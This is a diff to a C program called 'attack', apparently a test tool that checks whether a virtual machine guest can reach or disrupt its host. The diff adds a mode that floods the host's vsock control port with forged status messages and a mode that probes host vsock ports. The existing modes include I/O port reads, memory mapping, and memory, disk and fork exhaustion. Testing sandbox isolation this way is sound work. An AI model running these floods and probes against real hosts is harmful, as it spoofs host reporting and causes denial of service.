@@ -9,6 +9,8 @@
  *   attack ports                      reads every I/O port
  *   attack memory                     maps what the kernel gives of physical memory
  *   attack control BYTES              takes the host's channel from init and floods it
+ *   attack vsock BYTES                the same where the channel is a vsock
+ *   attack knock PORT …               tries the host's ports of the vsock
  *   attack eat                        takes memory until it is killed
  *   attack fill FILE                  writes to a file until there is no room
  *   attack fork SECONDS               forks for so long
@@ -32,7 +34,9 @@
 #include <time.h>
 #include <unistd.h>
 
-#define WAIT_MS 2500
+#define WAIT_MS (getenv("WAIT_MS") ? atoi(getenv("WAIT_MS")) : 2500)
+#define HOST_CID 2
+#define CONTROL_PORT 1024
 #define BLKROSET 0x125d
 
 static void say(int reached, const char *what, const char *how)
@@ -154,9 +158,10 @@ static int put(const char *path, const char *word)
 	return done;
 }
 
+static const char lie[] = "failed the host is at fault\nmemory 1 1\nexited 0\n";
+
 static void flood_control(long bytes)
 {
-	static const char lie[] = "failed the host is at fault\nmemory 1 1\nexited 0\n";
 	DIR *devices = opendir("/sys/bus/virtio/drivers/virtio_console");
 	struct dirent *entry;
 	int fd = -1;
@@ -187,6 +192,46 @@ static void flood_control(long bytes)
 			sent += put, idle = 0;
 		else
 			idle++, usleep(20000);
+	}
+	printf("sent %ld\n", sent);
+}
+
+/* Of <linux/vm_sockets.h>, which musl has not. */
+struct vsock_address {
+	sa_family_t family;
+	unsigned short reserved;
+	unsigned int port, cid;
+	unsigned char zero[4];
+};
+
+static int knock(unsigned int port)
+{
+	struct vsock_address to = {.family = AF_VSOCK, .port = port, .cid = HOST_CID};
+	int fd = socket(AF_VSOCK, SOCK_STREAM, 0);
+
+	if (connect(fd, (struct sockaddr *)&to, sizeof(to)) == 0)
+		return fd;
+	close(fd);
+	return -1;
+}
+
+static void flood_vsock(long bytes)
+{
+	long sent = 0;
+
+	signal(SIGPIPE, SIG_IGN);
+	/* Init comes back, and takes the channel away again; so does this. */
+	for (int refused = 0; sent < bytes && refused < 50;) {
+		int fd = knock(CONTROL_PORT);
+		ssize_t put;
+
+		if (fd < 0) {
+			refused++, usleep(20000);
+			continue;
+		}
+		while (sent < bytes && (put = write(fd, lie, sizeof(lie) - 1)) > 0)
+			sent += put;
+		close(fd);
 	}
 	printf("sent %ld\n", sent);
 }
@@ -263,6 +308,10 @@ int main(int count, char **words)
 		map_memory();
 	if (strcmp(what, "control") == 0 && count > 2)
 		flood_control(atol(words[2]));
+	if (strcmp(what, "vsock") == 0 && count > 2)
+		flood_vsock(atol(words[2]));
+	for (int i = 2; strcmp(what, "knock") == 0 && i < count; i++)
+		say(knock((unsigned int)atoi(words[i])) >= 0, words[i], strerror(errno));
 	while (strcmp(what, "eat") == 0)
 		memset(malloc(1 << 20), 1, 1 << 20);
 	if (strcmp(what, "fill") == 0 && count > 2)
